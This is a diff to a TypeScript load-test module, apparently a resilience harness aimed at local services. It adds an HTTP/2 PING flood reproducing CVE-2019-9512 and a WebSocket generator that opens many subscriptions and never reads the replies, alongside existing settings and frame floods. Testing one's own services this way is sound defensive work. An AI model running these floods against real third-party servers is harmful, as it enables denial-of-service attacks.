@@ -1,6 +1,6 @@
 /** Attacks by frames that a protocol allows, in numbers or sizes that nobody needs. */
 import type { Generator } from "./generator.ts";
-import { continuations, opening, settings } from "./http2-frames.ts";
+import { continuations, opening, ping, settings } from "./http2-frames.ts";
 import { closed, connectStranger, firstAnswer } from "./stranger.ts";
 
 const holdMs = 2_000;
@@ -33,6 +33,18 @@ export const settingsFlood: Generator = {
     ),
 };
 
+const manyPings = Buffer.concat([opening(), ...Array.from({ length: 20_000 }, ping)]);
+
+export const pingFlood: Generator = {
+  what: "connections of HTTP/2 with 20,000 PING frames whose answers nobody reads (CVE-2019-9512)",
+  perSecond: 10,
+  atOnce: 40,
+  run: ({ order, page }, turn) =>
+    closed(
+      connectStranger(turn % 2 === 0 ? order : page, manyPings, { deaf: true, patienceMs: holdMs }),
+    ),
+};
+
 const upgrade = Buffer.from(
   "GET /ws HTTP/1.1\r\nhost: localhost\r\nconnection: Upgrade\r\nupgrade: websocket\r\n" +
     "sec-websocket-version: 13\r\nsec-websocket-key: x3JJHMbDL1EzLkh9GBhXDw==\r\n\r\n",
@@ -50,7 +62,7 @@ function frame(opcode: number, payload: Uint8Array, length = payload.length): Bu
 const text = 0x81;
 const firstFragment = 0x01;
 const fragment = 0x00;
-const ping = 0x89;
+const pingFrame = 0x89;
 const one = Buffer.from("{");
 const streams: readonly Buffer[] = [
   // A gigabyte is announced, and some of it comes.
@@ -59,7 +71,7 @@ const streams: readonly Buffer[] = [
     frame(firstFragment, one),
     ...Array.from({ length: 10_000 }, () => frame(fragment, one)),
   ]),
-  Buffer.concat(Array.from({ length: 10_000 }, () => frame(ping, Buffer.alloc(100)))),
+  Buffer.concat(Array.from({ length: 10_000 }, () => frame(pingFrame, Buffer.alloc(100)))),
   Buffer.concat(Array.from({ length: 10_000 }, () => frame(text, Buffer.from('{"subscribe":{}}')))),
 ];
 
@@ -74,4 +86,20 @@ export const websocketFrames: Generator = {
     socket.write(streams[Math.floor(turn / 2) % streams.length] ?? upgrade);
     await closed(socket);
   },
+};
+
+const subscribe = frame(text, Buffer.from('{"subscribe":{"userId":"soak"}}'));
+const subscriptions = Buffer.concat([upgrade, ...Array.from({ length: 200 }, () => subscribe)]);
+
+export const slowReaders: Generator = {
+  what: "WebSockets with 200 subscriptions whose answers nobody reads",
+  perSecond: 40,
+  atOnce: 80,
+  run: ({ hub, page }, turn) =>
+    closed(
+      connectStranger(turn % 2 === 0 ? hub : page, subscriptions, {
+        deaf: true,
+        patienceMs: holdMs,
+      }),
+    ),
 };
